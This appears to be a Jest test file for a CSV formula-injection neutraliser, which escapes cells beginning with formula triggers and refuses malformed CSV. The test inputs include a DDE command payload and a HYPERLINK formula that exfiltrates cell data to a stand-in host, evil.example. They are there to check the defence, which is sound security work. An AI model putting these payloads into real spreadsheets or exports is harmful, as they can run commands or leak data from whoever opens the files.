import { neutraliseCsv } from './csv';

function neutralised(text: string): string {
  const result = neutraliseCsv(Buffer.from(text));
  if (!result.ok) throw new Error(`refused: ${result.reason}`);
  return result.bytes.toString('utf8');
}
const refusal = (input: string | Buffer) => {
  const result = neutraliseCsv(Buffer.isBuffer(input) ? input : Buffer.from(input));
  return result.ok ? undefined : result.reason;
};

describe('neutraliseCsv', () => {
  it('returns the very same bytes when no cell could be a formula', () => {
    const bytes = Buffer.from('hour,posts,note\n0,4,"fine, quoted"\n1,-5,+3.5\n2,1e3,-1.5E-3\n');
    const result = neutraliseCsv(bytes);
    expect(result).toEqual({ ok: true, bytes, neutralisedCells: 0 });
    expect(result.ok && result.bytes).toBe(bytes);
  });

  it.each([
    ['=', '=1+1', "'=1+1"],
    ['+', '+1+cmd', "'+1+cmd"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab', '\t=1', "'\t=1"],
    ['a DDE payload', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['a full-width equals sign', '＝1+1', "'＝1+1"],
    ['a full-width at sign', '＠SUM(1)', "'＠SUM(1)"],
    ['spaces before the trigger', '  =1', "'  =1"],
    ['a lone minus', '-', "'-"],
    ["an @mention from a person's data", '@friend thanks', "'@friend thanks"],
  ])('neutralises a cell that starts with %s', (_, cell, expected) => {
    expect(neutralised(`a,${cell},b\n`)).toBe(`a,${expected},b\n`);
    expect(neutralised(`${cell}\n`)).toBe(`${expected}\n`);
  });

  it('neutralises inside quoted cells, where spreadsheets still run formulas', () => {
    expect(neutralised('name,link\nx,"=HYPERLINK(""https://evil.example/?""&A1,""click"")"\n')).toBe(
      'name,link\nx,"\'=HYPERLINK(""https://evil.example/?""&A1,""click"")"\n',
    );
    expect(neutralised('"\r=1"')).toBe('"\'\r=1"');
  });

  it('leaves triggers that do not start a cell alone, including after a line break inside a quoted cell', () => {
    expect(neutralised('a=1,b-2,"c\n=3",x@y\n')).toBe('a=1,b-2,"c\n=3",x@y\n');
  });

  it('neutralises cells a spreadsheet splitting on ";" or tab would see, and an Excel sep= directive', () => {
    expect(neutralised('a;=1;b\n')).toBe("a;'=1;b\n");
    expect(neutralised('a\t@x\n')).toBe("a\t'@x\n");
    expect(neutralised('x;"=1"\n')).toBe('x;\'"=1"\n');
    expect(neutralised('sep=;\na;=1\n')).toBe("'sep=;\na;'=1\n");
    expect(neutralised('a;-5\n')).toBe('a;-5\n');
  });

  it('keeps every line ending and a byte order mark', () => {
    expect(neutralised('\ufeff=a,b\r\n=c,d\r=e\n=f')).toBe("\ufeff'=a,b\r\n'=c,d\r'=e\n'=f");
  });

  it('counts what it neutralised, and grows the file by exactly one byte per cell', () => {
    const rows = Array.from({ length: 10_000 }, (_, i) => `=A${i},-${i},@${i},+x`).join('\n');
    const result = neutraliseCsv(Buffer.from(rows));
    // "-0", "-1"… are numbers; "=A0", "@0" and "+x" are not.
    expect(result.ok && result.neutralisedCells).toBe(10_000 * 3);
    expect(result.ok && result.bytes.length).toBe(Buffer.byteLength(rows) + 10_000 * 3);
  });

  it('refuses what is not UTF-8 RFC 4180 CSV, naming the line', () => {
    expect(refusal('a,"unterminated\nb,c\n')).toBe('has a quoted cell that is never closed (opened on line 1)');
    expect(refusal('a,b\n"x"y,z\n')).toBe('has text after the closing quote of a cell on line 2; a quote inside a quoted cell is written ""');
    expect(refusal(Buffer.from([0x61, 0x2c, 0xff, 0x0a]))).toBe('is not UTF-8 text');
    expect(refusal('a,b\u0000\n')).toBe('contains a NUL byte at offset 3; a CSV file is text');
  });
});
